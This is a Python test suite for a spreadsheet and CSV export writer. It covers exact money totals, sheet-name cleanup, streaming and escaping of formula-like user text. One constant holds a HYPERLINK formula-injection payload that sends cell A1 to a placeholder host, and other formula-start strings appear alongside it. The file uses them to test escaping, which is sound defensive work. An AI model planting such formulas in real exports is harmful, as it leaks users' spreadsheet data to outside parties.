"""The one export writer: user text is always text, amounts exact to the fen, totals that add up."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from supply.core.sheets import Column, Sheet, total_of, write_csv, write_xlsx
from supply.core.text import FORMULA_START, csv_text, uncsv_text

HOSTILE = '=HYPERLINK("http://x/?d="&A1,"点击")'


def table(*rows: list[object], totals: bool = True) -> Sheet:
    return Sheet(
        name="表",
        columns=[
            Column("名称"),
            Column("数量", "int", total=True),
            Column("金额(元)", "money", total=True),
            Column("日期", "date"),
        ],
        rows=list(rows),
        totals=totals,
    )


def formulas(content: bytes) -> list[str]:
    """Every formula in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found = []
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                found += [part.split("</f>")[0] for part in xml.split("<f>")[1:]]
        return found


def test_text_that_looks_like_a_formula_stays_text_in_xlsx() -> None:
    content = write_xlsx([table([HOSTILE, 1, Decimal("10.5"), date(2026, 12, 1)],
                                ["+1+1", 2, Decimal(0), None], ["@SUM(A1)", 3, 1, None])])  # fmt: skip
    assert formulas(content) == ["SUBTOTAL(109,B2:B4)", "SUBTOTAL(109,C2:C4)"]
    sheet = load_workbook(io.BytesIO(content))["表"]
    assert [(sheet.cell(r, 1).value, sheet.cell(r, 1).data_type) for r in (2, 3, 4)] == [
        (HOSTILE, "s"),
        ("+1+1", "s"),
        ("@SUM(A1)", "s"),
    ]


def test_amounts_are_written_to_the_fen_with_a_money_format_and_totals_are_exact() -> None:
    noisy = 52594.07999999999  # what float arithmetic gave the old exports
    content = write_xlsx([table(["a", 1, noisy, None], ["b", 2, Decimal("0.015"), None])])
    values = load_workbook(io.BytesIO(content), data_only=True)["表"]
    assert [values.cell(r, 3).value for r in (2, 3)] == [52594.08, 0.02]
    assert values.cell(2, 3).number_format == "#,##0.00"
    assert [values.cell(4, c).value for c in (1, 2, 3)] == ["合计 / total (2 行)", 3, 52594.1]


def test_an_empty_table_has_a_header_and_no_totals_row() -> None:
    content = write_xlsx([table()])
    sheet = load_workbook(io.BytesIO(content))["表"]
    assert sheet.max_row == 1 and formulas(content) == []


def test_csv_cells_of_user_text_are_escaped_by_the_owasp_rule() -> None:
    content = write_csv(table([HOSTILE, 1, Decimal("1.234"), date(2026, 12, 1)],
                              ["-负数名", 2, Decimal(-5), None], ["\tx", 3, 0, None]))  # fmt: skip
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + HOSTILE, "1", "1.23", "2026-12-01"]
    assert rows[2] == ["'-负数名", "2", "-5.00", ""]  # a negative amount is a number, not text
    assert rows[3][0] == "'\tx"
    assert rows[4] == ["合计 / total (3 行)", "6", "-3.77", ""]


@given(st.text(max_size=12))
def test_the_csv_rule_is_undone_exactly_when_read_back(text: str) -> None:
    escaped = csv_text(text)
    assert uncsv_text(escaped) == text
    assert not escaped.startswith(FORMULA_START)


@given(st.sampled_from(FORMULA_START), st.text(max_size=8))
def test_every_formula_start_is_escaped(start: str, rest: str) -> None:
    assert csv_text(start + rest) == "'" + start + rest


def test_sheet_names_are_made_acceptable_to_excel_and_unique() -> None:
    rows = [["a", 1, 1, None]]
    names = ["WH-RC 荣成[周转]库", "x" * 40, "x" * 40, "'引号'", "X" * 31, "a/b\\c:d*e?f"]
    content = write_xlsx([Sheet(n, table().columns, rows) for n in names])
    assert load_workbook(io.BytesIO(content)).sheetnames == [
        "WH-RC 荣成_周转_库",
        "x" * 31,
        "x" * 27 + " (2)",
        "引号",
        "X" * 27 + " (3)",  # Excel compares sheet names without case
        "a_b_c_d_e_f",
    ]


def test_any_text_is_read_back_as_written() -> None:
    # Markup, Excel's own escapes and edge whitespace: the string cell holds exactly the text
    # (xlsxwriter used to write "<r>…</r>" into the file as rich text).
    texts = ["<r><t>x</t></r>", "a & b <c>", "_x0041_", " lead", "trail\t", "多行\n文字"]
    content = write_xlsx([Sheet("表", [Column("名称")], [[t] for t in [*texts, "bell\x07"]])])
    sheet = load_workbook(io.BytesIO(content))["表"]
    assert [sheet.cell(r, 1).value for r in range(2, 2 + len(texts))] == texts
    assert formulas(content) == []
    # A control character is written as Excel writes it (XML cannot hold it).
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "<t>bell_x0007_</t>" in strings and "<t>_x005F_x0041_</t>" in strings


def test_header_notes_fill_widths_and_frozen_header() -> None:
    columns = [Column("物料编码", note="material code"), Column("数量", "int", note="quantity")]
    sheet = Sheet("模板", columns, [["TR-400", 3]], header_fill="#DDEBF7", widths={0: 20})
    book = load_workbook(io.BytesIO(write_xlsx([sheet, table()])))
    first = book["模板"]
    assert [first.cell(1, c).comment.text for c in (1, 2)] == ["material code", "quantity"]
    assert first.cell(1, 1).comment.author == "gridsupply"
    assert first.cell(1, 1).fill.fgColor.rgb == "FFDDEBF7" and first.cell(1, 1).font.b
    assert round(first.column_dimensions["A"].width, 2) == 20.71  # Excel's width of 20 digits
    assert first.freeze_panes == "A2" and first.auto_filter.ref == "A1:B2"
    assert book["表"].cell(1, 1).fill.fill_type is None  # the other sheet's header: bold only


def test_a_long_sheet_is_streamed_whole_with_exact_totals() -> None:
    # Far more than one chunk of the compressor: every row, and totals to the fen.
    rows = [[f"行 {i}", i % 7, Decimal(i) / 3, date(2026, 12, 1 + i % 28)] for i in range(30_000)]
    sheet = table(*rows)
    content = write_xlsx([sheet])
    read = load_workbook(io.BytesIO(content), read_only=True, data_only=True)["表"]
    values = list(read.iter_rows(values_only=True))
    assert read.max_row == len(values) == 30_002 and values[1][0] == "行 0"
    assert values[-1][:3] == (
        "合计 / total (30000 行)",
        total_of(sheet, 1),
        float(total_of(sheet, 2)),
    )
    assert values[-2][3] == datetime(2026, 12, 1 + 29_999 % 28)
